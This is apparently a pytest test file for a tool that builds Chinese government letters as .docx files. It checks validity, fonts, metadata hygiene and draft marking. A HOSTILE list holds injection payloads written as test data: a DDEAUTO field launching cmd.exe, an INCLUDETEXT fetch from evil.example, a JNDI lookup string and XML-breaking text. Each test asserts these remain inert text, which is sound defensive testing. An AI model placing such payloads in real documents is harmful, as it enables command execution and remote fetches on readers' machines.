"""The .docx as a file: valid, complete, clean of machines and users, deaf to what hostile text would do."""

import re
import zipfile
from io import BytesIO

import pytest

from assistant.letter.paper.measures import FONTS
from assistant.letter.paper.package import package
from assistant.letter.paper.types import Block, Sheet
from tests.assistant.letter.conftest import FIELDS, HARDSHIP, NURSING, TRAIN

STAMP = "草稿"


def parts(docx):
    with zipfile.ZipFile(BytesIO(docx)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def words(docx):
    from docx import Document

    document = Document(BytesIO(docx))
    cells = [p.text for table in document.tables for row in table.rows for cell in row.cells for p in cell.paragraphs]
    return [p.text for p in document.paragraphs] + cells


@pytest.fixture(params=["person", "organ", "petition", "proposal", "telephone"])
def made(request, desk):
    draft = desk.draft(request.param, [NURSING, HARDSHIP, TRAIN], FIELDS[request.param])
    return desk.sheet(draft), desk.docx(draft), desk.checklist(draft)


def test_a_letter_of_each_kind_validates_against_the_open_xml_schema(made, tmp_path):
    audit = pytest.importorskip("openxml_audit", reason="needs openxml-audit, the validator of the Open XML schema")
    for number, docx in enumerate(made[1:]):
        path = tmp_path / f"{number}.docx"
        path.write_bytes(docx)
        found = audit.OpenXmlValidator().validate(str(path))
        assert [str(error) for error in found.errors] == []


def test_every_part_is_declared_and_every_relation_points_to_a_part_inside(made):
    for docx in made[1:]:
        held = parts(docx)
        declared = set(re.findall(r'PartName="/([^"]+)"', held["[Content_Types].xml"]))
        assert declared == {name for name in held if not name.endswith(".rels") and name != "[Content_Types].xml"}
        for name, text in held.items():
            if name.endswith(".rels"):
                folder = "word/" if "word/" in name else ""
                assert "TargetMode" not in text
                assert all(folder + target in held for target in re.findall(r'Target="([^"]+)"', text))


def test_it_reopens_in_python_docx_with_every_word(made):
    sheet, docx, _ = made
    told = words(docx)
    for block in sheet.blocks:
        if block.text:
            assert block.text in told
        for row in block.rows:
            assert all(line in told for cell in row for line in cell.split("\n"))


def test_the_fonts_of_the_standard_are_named_for_chinese_text(made):
    held = parts(made[1])
    assert set(re.findall(r'w:eastAsia="([^"]+)"', held["word/document.xml"] + held["word/styles.xml"])) <= {
        *FONTS,
        "zh-CN",
    }
    for style, font in (
        ("title", "方正小标宋简体"),
        ("body", "仿宋_GB2312"),
        ("heading1", "黑体"),
        ("heading2", "楷体_GB2312"),
    ):
        found = re.search(rf'w:styleId="{style}".*?</w:style>', held["word/styles.xml"], re.S)
        assert f'w:eastAsia="{font}"' in found[0]


def test_its_properties_name_the_office_and_no_machine_or_user(made):
    held = parts(made[1])
    core = held["docProps/core.xml"]
    assert re.search(r"<dc:creator>(.*?)</dc:creator>", core)[1] == "中共清河市委老干部局"
    assert re.search(r"<cp:lastModifiedBy>(.*?)</cp:lastModifiedBy>", core)[1] == "中共清河市委老干部局"
    everything = "".join(held.values())
    import getpass
    import socket

    assert socket.gethostname() not in everything
    assert f">{getpass.getuser()}<" not in everything
    assert "python" not in everything.lower()
    assert not re.search(r"/(?:tmp|home|work|root)/", everything)


def test_a_draft_is_marked_on_every_page_and_in_its_properties_and_a_final_letter_nowhere(desk, whole):
    held = parts(desk.docx(whole))
    headers = [text for name, text in held.items() if name.startswith("word/header")]
    assert len(headers) == 3
    assert all("草稿" in text for text in headers)
    assert "程序起草" in held["docProps/custom.xml"]
    assert "草稿" in held["docProps/core.xml"]
    final, _ = desk.finalise(whole, "周敏")
    everything = "".join(parts(desk.docx(final)).values())
    assert "草稿" not in everything
    assert "程序起草" not in everything


def test_the_same_letter_gives_the_same_bytes(desk, whole):
    assert desk.docx(whole) == desk.docx(whole)


HOSTILE = [
    "\x00\x07\x1b\x7f\ud800\udfff\ufffe\uffff甲",
    "]]><w:p/><!-- & < > \" ' -->甲",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } 甲',
    "{ INCLUDETEXT http://evil.example/x } 甲",
    "{{ config }} {% for x in y %} {answers} {org} ${jndi:ldap://x} 甲",
    "<w:fldSimple w:instr=\"DDE\"/><a href='http://evil.example'>甲</a>",
    "\u202e\u2066\u200b甲\ufeff",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_ends_as_text_without_a_field_or_a_link(text):
    block = Block("body", text)
    cells = Block("small", rows=((text, text),), widths=(50, 50))
    docx = package(
        Sheet(
            "letter",
            (block, cells),
            mark=text,
            number=text,
            stamp=text,
            title=text,
            author=text,
            foot=((text, text),),
        )
    )
    held = parts(docx)
    assert all("甲" in each for each in words(docx) if each)
    codes = [code for part in held.values() for code in re.findall(r"<w:instrText[^>]*>(.*?)</w:instrText>", part)]
    assert {code.strip() for code in codes} == {"PAGE"}
    assert "fldSimple " not in held["word/document.xml"].replace("&lt;w:fldSimple ", "")
    assert not any("hyperlink" in part or "TargetMode" in part for part in held.values())


def test_a_megabyte_in_one_paragraph_is_a_document_all_the_same():
    docx = package(Sheet("letter", (Block("body", "长" * 350_000),), mark="局", at="2026-11-20T09:00:00+08:00"))
    assert sum(len(each) for each in words(docx)) >= 350_000


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_fields_and_questions_end_in_a_clean_letter(desk, text):
    fields = FIELDS["person"] | {"to": text, "subject": text}
    draft = desk.draft("person", [f"护理费每月多少？{text}"], fields)
    held = parts(desk.docx(draft))
    codes = [code for part in held.values() for code in re.findall(r"<w:instrText[^>]*>(.*?)</w:instrText>", part)]
    assert {code.strip() for code in codes} == {"PAGE"}
    assert any("甲" in each for each in words(desk.docx(draft)))
    assert "中共清河市委老干部局} " not in desk.text(draft)  # a brace in a value is no field
